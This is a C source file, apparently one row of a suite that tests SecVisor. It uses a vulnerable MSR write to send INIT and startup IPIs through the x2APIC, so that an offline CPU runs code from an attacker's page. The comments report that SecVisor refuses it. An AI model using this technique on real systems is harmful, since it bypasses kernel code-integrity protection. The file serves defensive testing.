// Row 18. The second CPU, offline, started at the attacker's page by INIT and start-up commands through the x2APIC's MSR.
// Source: AMD64 APM 2, 16.11.1 (x2APIC interrupt command register).
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <unistd.h>

#define COMMAND 0x830

ATTACK("start-x2apic")
{
	u64 page = prepare_start();

	if (!(operate(VULNERABLE_RDMSR, 0x1b, 0, 0) & 1 << 10))
		failed("the APIC is not in x2APIC mode");
	if (set_online(1, 0))
		failed("the second CPU stays online");
	about_to("start the second CPU");
	operate(VULNERABLE_WRMSR, COMMAND, 1ull << 32 | 0x4500, 0);
	usleep(20000);
	operate(VULNERABLE_WRMSR, COMMAND, 1ull << 32 | 0x4600 | START_PAGE >> 12, 0);
	if (seen(page))
		succeeded("the second CPU ran code at %#llx", START_PAGE);
	refused("the second CPU did not start at %#llx", START_PAGE);
}
